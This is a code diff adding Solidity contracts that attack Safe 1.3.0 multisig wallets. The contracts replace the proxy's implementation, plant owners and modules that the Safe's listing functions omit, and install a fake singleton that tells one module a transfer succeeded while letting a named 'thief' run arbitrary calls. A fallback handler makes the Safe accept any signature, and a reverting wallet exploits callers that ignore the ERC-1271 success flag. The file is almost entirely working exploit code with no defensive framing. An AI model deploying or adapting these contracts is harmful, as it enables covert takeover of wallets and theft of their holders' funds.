@@ -1,0 +1,106 @@
+// SPDX-License-Identifier: LGPL-3.0-only
+pragma solidity 0.8.37;
+
+/// Storage layout of a Safe 1.3.0, up to the mappings that grant power.
+abstract contract SafeLayout {
+    address internal singleton;
+    mapping(address => address) internal modules;
+    mapping(address => address) internal owners;
+}
+
+/// Writes the storage of a Safe that runs it by DELEGATECALL.
+contract StorageWriter is SafeLayout {
+    /// Replaces the code behind the Safe's proxy.
+    function writeSingleton(address singleton_) external {
+        singleton = singleton_;
+    }
+
+    /// Grants a module its power without a place in the linked list, so getModulesPaginated omits it.
+    function writeModule(address module) external {
+        modules[module] = address(1);
+    }
+
+    /// Grants an owner its power without a place in the linked list, so getOwners omits it.
+    function writeOwner(address owner) external {
+        owners[owner] = address(1);
+    }
+}
+
+/// Code for a Safe's proxy that answers every question as the genuine singleton does. It reports success to one module
+/// and moves nothing, and it runs any call of the thief at once. Only the proxy's own masterCopy() shows it.
+contract FakeSingleton {
+    address private immutable genuine;
+    address private immutable deceived;
+    address private immutable thief;
+
+    event ExecutionFromModuleSuccess(address indexed module);
+
+    constructor(address genuine_, address deceived_, address thief_) {
+        genuine = genuine_;
+        deceived = deceived_;
+        thief = thief_;
+    }
+
+    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8)
+        external
+        returns (bool)
+    {
+        if (msg.sender == deceived) {
+            emit ExecutionFromModuleSuccess(msg.sender);
+            return true;
+        }
+        if (msg.sender != thief) _delegate();
+        (bool isDone,) = to.call{value: value}(data);
+        return isDone;
+    }
+
+    function execTransactionFromModuleReturnData(address, uint256, bytes calldata, uint8)
+        external
+        returns (bool, bytes memory)
+    {
+        if (msg.sender != deceived) _delegate();
+        emit ExecutionFromModuleSuccess(msg.sender);
+        return (true, abi.encode(true));
+    }
+
+    receive() external payable {}
+
+    fallback() external {
+        _delegate();
+    }
+
+    /// Never returns to its caller.
+    function _delegate() private {
+        address target = genuine;
+        assembly {
+            calldatacopy(0, 0, calldatasize())
+            let isDone := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
+            returndatacopy(0, 0, returndatasize())
+            if iszero(isDone) {
+                revert(0, returndatasize())
+            }
+            return(0, returndatasize())
+        }
+    }
+}
+
+/// A fallback handler by which a Safe accepts every signature (ERC-1271, and the older form over bytes).
+contract YesHandler {
+    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
+        return 0x1626ba7e;
+    }
+
+    function isValidSignature(bytes calldata, bytes calldata) external pure returns (bytes4) {
+        return 0x20c13b0b;
+    }
+}
+
+/// A wallet that reverts with the magic value of ERC-1271: signed for a caller that ignores the success flag.
+contract RevertingWallet {
+    fallback() external {
+        assembly {
+            mstore(0, shl(224, 0x1626ba7e))
+            revert(0, 32)
+        }
+    }
+}
